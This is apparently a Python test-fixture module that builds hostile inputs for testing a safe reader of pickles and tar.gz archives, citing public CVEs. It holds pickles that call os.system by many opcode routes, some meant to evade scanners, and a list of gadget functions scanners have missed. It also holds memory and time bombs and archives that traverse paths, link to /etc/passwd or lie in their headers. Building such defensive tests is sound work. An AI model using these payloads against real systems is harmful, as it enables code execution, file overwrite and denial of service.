"""Archives and pickles that attack whoever reads them, collected from public lists.

Sources: CVE-2007-4559, CVE-2019-20907, CVE-2025-4517 and CVE-2025-8194 (tarfile), 42.zip and
D. Fifield, "A better zip bomb" (2019), "zip slip" (2018), fickling's and picklescan's lists of
pickles, CVE-2025-32434 (torch.load), Trail of Bits' review of safetensors (2023).
"""

from __future__ import annotations

import gzip
import io
import pickle
import struct
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path

# Functions that scanners have missed, each of which can be made to run a program.
GADGETS = (
    "os system", "posix system", "subprocess Popen", "builtins eval", "builtins exec",
    "builtins __import__", "builtins getattr", "__builtin__ eval", "importlib import_module",
    "runpy _run_code", "pty spawn", "operator attrgetter", "functools partial", "timeit timeit",
    "pydoc locate", "cProfile run", "profile run", "bdb Bdb.run", "trace Trace.run", "doctest run",
    "code InteractiveInterpreter", "ctypes CDLL", "shutil copyfile", "webbrowser open",
    "ensurepip _run_pip", "lib2to3.pgen2.grammar Grammar.loads", "pickle loads", "marshal loads",
    "torch load", "torch.jit.unsupported_tensor_ops execWrapper",
    "torch.utils._config_module ConfigModule.load_config", "torch.utils.collect_env run",
    "torch._dynamo.guards GuardBuilder.get", "numpy.testing._private.utils runstring",
)


def touching(marker: Path) -> dict[str, bytes]:
    """Pickles of which the ordinary reader makes the file `marker`, one for each way to do so."""
    words = f"touch {marker}".encode()
    called = b"(V" + words + b"\ntR"
    text = b"\x8c" + bytes([len(words)]) + words
    system = b"\x8c\x02os\x8c\x06system"
    mapped = b"cbuiltins\nbytes\n(cbuiltins\nmap\n(cos\nsystem\n(V" + words + b"\nlt"
    return {
        "GLOBAL and REDUCE": b"cos\nsystem\n" + called + b".",
        "STACK_GLOBAL": b"\x80\x04" + system + b"\x93" + text + b"\x85R.",
        "STACK_GLOBAL of remembered names": b"\x80\x04" + system[:4] + b"\x940" + system[4:]
                                            + b"\x940h\x00h\x01\x93" + text + b"\x85R.",
        "INST": b"(V" + words + b"\nios\nsystem\n.",
        "OBJ": b"(cos\nsystem\nV" + words + b"\no.",
        "NEWOBJ": mapped + b"\x81t\x81.",
        "NEWOBJ_EX": mapped + b"}\x92t}\x92.",
        "a call, and damage behind it": b"cos\nsystem\n" + called + b"\xff\xff",
        "a call, and nothing behind it": b"cos\nsystem\n" + called,
        "a call whose value is thrown away": b"cos\nsystem\n" + called + b"0}.",
        "a call inside a good dict": b"}(Vfilm\ncos\nsystem\n" + called + b"u.",
        "a call before a good dict": b"\x80\x02cos\nsystem\n" + called + b"0"
                                     + pickle.dumps({"film": 2}, 2)[2:],
        "a protocol that comes late": b"}0\x80\x04" + system + b"\x93" + text + b"\x85R.",
        "a frame that lies about its length": b"\x80\x04\x95" + struct.pack("<Q", 0) + system
                                              + b"\x93" + text + b"\x85R.",
    }


_COLLIDING = sys.hash_info.modulus


def _long(number: int) -> bytes:
    digits = pickle.encode_long(number)
    return b"\x8a" + bytes([len(digits)]) + digits


QUIET_PICKLES: dict[str, bytes] = {
    **{f"asks for {name}": f"c{name.replace(' ', chr(10))}\n(tR.".encode() for name in GADGETS},
    "BUILD": b"}}b.",
    "EXT1": b"\x80\x02\x82\x01.",
    "EXT2": b"\x80\x02\x83\x01\x00.",
    "EXT4": b"\x80\x02\x84\x01\x00\x00\x00.",
    "PERSID": b"Pid\n.",
    "BINPERSID": b"\x8c\x02idQ.",
    "NEXT_BUFFER": b"\x80\x05\x97.",
    "READONLY_BUFFER": b"\x80\x05\x97\x98.",
    "a million lists": b"]" * 1_000_000 + b".",
    "a million dicts": b"}" * 1_000_000 + b".",
    "lists in lists, for a hundred laughs": b"(lp0\n" + b"(g0\ng0\nlp0\n" * 100 + b".",
    "DUP": b"}" + b"2" * 1000 + b".",
    "a place in the memo like a gigabyte": b"}r" + struct.pack("<I", 2**30) + b".",
    "the same in text": b"}p1073741824\n.",
    "a negative place": b"}p-1\n.",
    "a place that was never filled": b"h\x07.",
    "a text of a terabyte": b"\x80\x04\x8d" + struct.pack("<Q", 2**40) + b"x.",
    "bytes of a terabyte": b"\x80\x04\x8e" + struct.pack("<Q", 2**40) + b"x.",
    "a frame of a terabyte": b"\x80\x04\x95" + struct.pack("<Q", 2**40) + b"}.",
    "a number of two billion digits": b"\x8b" + struct.pack("<i", 2**31 - 1) + b"1.",
    "a number of a negative length": b"\x8b" + struct.pack("<i", -1) + b".",
    "a number of a million digits": b"I" + b"9" * 1_000_000 + b"\n.",
    # A dict of them takes time that grows with the square of their number.
    "200,000 keys of one hash": b"}(" + b"".join(
        _long(number * _COLLIDING) + b"K\x02" for number in range(1, 200_000)) + b"u.",
    "a protocol of the future": b"\x80\xff}.",
    "an instruction that is none": b"\xfe.",
    "marks and nothing else": b"(" * 1_000_000 + b".",
    "more taken than was laid down": b"s.",
    "nothing": b"",
}

TarMaker = Callable[[tarfile.TarFile], None]


def member(name: str, kind: bytes = tarfile.REGTYPE, **about: object) -> tarfile.TarInfo:
    made = tarfile.TarInfo(name)
    made.type = kind
    for key, value in about.items():
        setattr(made, key, value)
    return made


def archive(members: list[tarfile.TarInfo], form: int = tarfile.PAX_FORMAT) -> bytes:
    """A `.tar.gz`; the files are full of zeros."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=form) as tar:
        for each in members:
            tar.addfile(each, io.BytesIO(bytes(each.size)))
    return buffer.getvalue()


def _link(name: str, target: str) -> tarfile.TarInfo:
    return member(name, tarfile.SYMTYPE, linkname=target)


def _pax(**headers: str) -> tarfile.TarInfo:
    return member("plain", pax_headers=headers)


def _raw_size(field: bytes, name: str = "film.txt", kind: bytes = tarfile.REGTYPE) -> bytes:
    """A member whose size is stated as it should not be."""
    header = bytearray(member(name, kind).tobuf(tarfile.USTAR_FORMAT))
    header[124:136] = field
    header[148:156] = b" " * 8
    header[148:156] = f"{sum(header):06o}\0 ".encode()
    return gzip.compress(bytes(header) + bytes(2048))


def _headers(form: int, count: int) -> bytes:
    """So many headers in a row, each of which only tells of the one behind it."""
    made = gzip.decompress(archive([member("x" * 150, pax_headers={"comment": "x"})], form))
    return gzip.compress(made[:1024] * count + made)


_BASE_256 = 2**(8 * 11)
_ZETTABYTE = (2**70).to_bytes(11, "big").rjust(12, b"\x80")
_SPARSE = {"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.map": "0,0",
           "GNU.sparse.name": "hole.txt", "GNU.sparse.size": str(10**12)}

OUTSIDE: dict[str, bytes] = {
    "an absolute path": archive([member("/evil.txt", size=1)]),
    "a way up": archive([member("../evil.txt", size=1)]),
    "a way up from below": archive([member("a/b/../../../evil.txt", size=1)]),
    "a way up in a header of pax": archive([_pax(path="../evil.txt")]),
    "a way up for all in a global header of pax": archive([_pax(path="x/../../evil.txt")]),
    "a way up in a long name of GNU's": archive(
        [member("x/" * 80 + "../" * 81 + "evil.txt", size=1)], tarfile.GNU_FORMAT),
    "a folder that is the way up": archive([member("..", tarfile.DIRTYPE)]),
    "a name with a zero byte": archive([_pax(path="film.txt\0/../../evil.txt")]),
}
LINKS: dict[str, bytes] = {
    "a link out, written through": archive([_link("a", ".."), member("a/evil.txt", size=1)]),
    "a link to a link": archive([_link("a", "."), _link("a/b", ".."),
                                 member("a/b/evil.txt", size=1)]),
    "a link longer than a path may be": archive(
        [_link("/".join(["d" * 200] * 15), "."), _link("x", "../" * 20)]),
    "a link to a password": archive([_link("film.txt", "/etc/passwd")]),
    "a hard link to a password": archive(
        [member("film.txt", tarfile.LNKTYPE, linkname="/etc/passwd")]),
    "a hard link to a link": archive(
        [_link("a", "../evil.txt"), member("b", tarfile.LNKTYPE, linkname="a"),
         member("b", size=1)]),
    "a pipe": archive([member("film.txt", tarfile.FIFOTYPE)]),
    "a device": archive([member("film.txt", tarfile.CHRTYPE, devmajor=1, devminor=5)]),
    "a disk": archive([member("film.txt", tarfile.BLKTYPE, devmajor=8)]),
}
SPARSE: dict[str, bytes] = {
    "a sparse file of a terabyte": archive([member("hole.txt", size=512, pax_headers=_SPARSE)]),
}
DAMAGED: dict[str, bytes] = {
    "a negative size": _raw_size((_BASE_256 * 256 - 512).to_bytes(12, "big")),
    "a size beyond all": _raw_size(b"\x80" + b"\xff" * 11),
    "a size that is no number": _raw_size(b"7777777777x\0"),
    "a header of pax that lies about its length": gzip.compress(gzip.decompress(
        archive([_pax(path="film.txt")])).replace(b"17 path=", b"99 path=")),
    "a header of pax whose length is nothing": gzip.compress(gzip.decompress(
        archive([_pax(path="film.txt")])).replace(b"17 path=", b"00 path=")),
    "the headers of another archive": gzip.compress(b"PK\3\4" + bytes(2000)),
    "a tar that is cut": gzip.compress(gzip.decompress(archive([member("a", size=5000)]))[:1000]),
    "a gzip that is cut": archive([member("a", size=5000)])[:-12],
    "a gzip with another sum": archive([member("a", size=5000)])[:-8] + bytes(8),
    "a sparse map that is no number": archive([_pax(**{**_SPARSE, "GNU.sparse.map": "x"})]),
    "a sparse size that is no number": archive([_pax(**{**_SPARSE, "GNU.sparse.size": "x"})]),
    "a sparse map that is not there": archive(
        [_pax(**{"GNU.sparse.major": "1", "GNU.sparse.minor": "0"})]),
    "2,000 headers of pax in a row": _headers(tarfile.PAX_FORMAT, 2000),
    "2,000 long names in a row": _headers(tarfile.GNU_FORMAT, 2000),
    "no tar": gzip.compress(b"no tar " * 200),
    "no gzip": b"no gzip at all",
    "nothing": b"",
}
BOMBS: dict[str, bytes] = {
    "a file of zeros": archive([member("a.txt", size=30_000_000)]),
    "zeros packed twice": gzip.compress(gzip.compress(bytes(30_000_000), 9)),
    "a header of pax of 30 MB": archive([_pax(comment="x" * 30_000_000)]),
    "a name of 10 MB": archive([member("x/" * 5_000_000 + "a")], tarfile.GNU_FORMAT),
    "3,000 files": archive([member(f"{number}.txt") for number in range(3000)]),
    "2,000 folders in folders": archive([member("d/" * 2000 + "a", size=1)]),
    "a name longer than a disk can hold": archive([member("n" * 300, size=1)]),
    "twenty folders of long names": archive([member("/".join(["n" * 250] * 20), size=1)]),
}
ENDLESS: dict[str, bytes] = {
    "a hidden file that is passed over": _raw_size(_ZETTABYTE, "._film.txt"),
    "a member of a kind that nobody knows": _raw_size(_ZETTABYTE, kind=b"Z"),
    "a file": _raw_size(_ZETTABYTE),
}
"""Who reads them as far as their headers say is never done."""
TWICE: dict[str, bytes] = {
    "a file": archive([member("a", size=1), member("a", size=2)]),
    "a file, then a folder": archive([member("a", size=1), member("a", tarfile.DIRTYPE)]),
    "a file, then one inside it": archive([member("a", size=1), member("a/b", size=2)]),
    "a file, then one deep inside it": archive([member("a", size=1), member("a/b/c", size=2)]),
    "a folder, then a file": archive([member("a", tarfile.DIRTYPE), member("a", size=2)]),
    "the folder itself": archive([member(".", size=1)]),
}
